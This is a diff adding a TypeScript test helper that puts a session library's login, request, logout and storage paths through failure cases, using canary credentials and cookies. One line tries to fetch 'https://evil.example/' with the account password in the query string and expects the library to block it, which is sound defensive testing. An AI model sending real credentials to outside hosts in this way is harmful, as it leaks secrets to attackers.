@@ -1,0 +1,126 @@
+import { encryptedStore, isVmsError, memoryStore, type SessionEvent, type SessionOptions } from "@vms/core";
+import { vendors } from "@vms-tooling/demo/vendors";
+import type { Conduct } from "../ways/human.ts";
+import { unmarked } from "../ways/marks.ts";
+import type { Scene } from "../ways/scenes.ts";
+import type { ServedScene } from "../ways/served.ts";
+import type { Row } from "./rows.ts";
+import { answersToCall, answersToLogin, answersToMethod, CANARIES, SET_COOKIE } from "./scripts.ts";
+
+const EVENTS: readonly SessionEvent["type"][] = [
+  "login",
+  "renewed",
+  "renewal_failed",
+  "rejected",
+  "rotated",
+  "expired",
+  "logout",
+  "store_failed",
+];
+
+/** What was met on a walk: whatever was thrown, emitted or given, and what it should have been. */
+export interface Walk {
+  readonly seen: readonly unknown[];
+  /** What did not fail as it should have. */
+  readonly surprises: readonly string[];
+}
+
+/** What the 32 bytes of an encrypted store's key say. */
+export const STORE_KEY = "a made-up canary key of 32 bytes";
+
+/** Signs in, calls and signs out in every way that goes wrong, and keeps all that comes of it. */
+export async function walk(row: Row, scene: Scene, { baseUrl }: ServedScene): Promise<Walk> {
+  const { server, human } = scene;
+  const { account, firstCall } = server;
+  const seen: unknown[] = [];
+  const surprises: string[] = [];
+  const options: SessionOptions & { readonly baseUrl: string } = {
+    baseUrl,
+    credentials: account,
+    fetch: (input, init) => fetch(input, unmarked(init)),
+    retry: { attempts: 1 },
+    timeout: 2_000,
+  };
+  const open = (more: Partial<SessionOptions> = {}, create: Scene["create"] = scene.create) => {
+    const session = create({ ...options, ...more });
+    for (const type of EVENTS) session.on(type, (event) => seen.push(event));
+    seen.push(session, session.http, session.fetch, more.store, ...(row.more?.(session) ?? []));
+    return session;
+  };
+  const keep = async (run: Promise<unknown>, code?: string) => {
+    const outcome = await run.catch((error: unknown) => error);
+    seen.push(outcome);
+    const came = isVmsError(outcome) ? outcome.code : "no error of ours";
+    if (code !== undefined && came !== code) surprises.push(`${came} in place of ${code}`);
+    return outcome;
+  };
+
+  // Signing in, gone wrong in every way; the bodies quote what was sent.
+  for (const { path } of row.steps.filter(({ kind }) => kind === "login")) {
+    for (const answer of answersToLogin(account.password)) {
+      server.script({ ...answer, when: (request) => request.path.endsWith(path) });
+      const error = await keep(open().login());
+      if (path === row.begins && !isVmsError(error)) surprises.push(`${path}: no error of ours`);
+    }
+  }
+  if (row.passwordless === undefined) {
+    const credentials = { ...account, password: "made-up-canary-wrong" };
+    await keep(open({ credentials }).login(), "invalid_credentials");
+  }
+  if (row.asks !== undefined) {
+    const conducts: Conduct[] = ["wrong", "late", "empty", "throws"];
+    for (const conduct of row.asks === "video" ? [...conducts, "another" as const] : conducts) {
+      human.conduct = () => conduct;
+      await keep(open().login());
+      server.revokeAll();
+    }
+    human.conduct = () => "right";
+    const bare = vendors.find(({ key }) => key === server.vendor)?.create;
+    const code = row.asks === "video" && row.passwordless ? "invalid_credentials" : "second_factor_required";
+    await keep(open({}, bare).login(), code);
+  }
+
+  // Calls, gone wrong.
+  const session = open();
+  // What a body says is between the vendor and the caller; what breaks it off is not.
+  const read = async () => void (await (await session.fetch(firstCall)).arrayBuffer());
+  await keep(session.fetch(firstCall));
+  server.script({ status: 404, body: "{}", headers: SET_COOKIE });
+  const httpError = await keep(session.http.get(firstCall, { retry: 0 }).json());
+  const { response } = httpError as { response?: Response };
+  if (response === undefined) surprises.push("a 404 was no HTTPError");
+  seen.push(response?.headers, [...(response?.headers ?? [])], response?.url);
+  server.script({ status: 500, headers: SET_COOKIE });
+  await keep(session.http.post(firstCall, { json: {}, retry: 0 }));
+  for (const answer of answersToCall(firstCall)) {
+    server.script(answer);
+    await keep(read());
+    server.script(answer);
+    await keep(session.http.get(firstCall, { retry: 0 }).then(() => undefined));
+  }
+  for (const answer of row.method === undefined ? [] : [...answersToCall(firstCall), ...answersToMethod]) {
+    server.script(answer);
+    await keep(row.method?.run(session, {}) ?? Promise.resolve());
+  }
+  await keep(session.fetch(`https://evil.example/?x=${account.password}`), "origin_not_allowed");
+  server.revokeAll();
+  await keep(read());
+  await keep(session.renew());
+  seen.push(session.info);
+  server.script({ status: 500, when: ({ path }) => path.includes("logout") });
+  await keep(session.logout());
+  await keep(session.fetch(firstCall), "session_closed");
+
+  // The cookies of a session that is not alive.
+  const [va, videobank_sessionid, auth_key, tfa_key] = CANARIES;
+  const cookies = { va, videobank_sessionid, auth_key, tfa_key };
+  // Where sessions are no cookies, that is an error of its own.
+  await keep((async () => open({ cookies }).login())());
+
+  // Stores, and what is kept in them.
+  for (const store of [memoryStore(), encryptedStore(memoryStore(), { key: Buffer.from(STORE_KEY) })]) {
+    await keep(open({ store }).login());
+    await keep(open({ store }).fetch(firstCall));
+  }
+  return { seen: [...seen, ...human.told], surprises };
+}
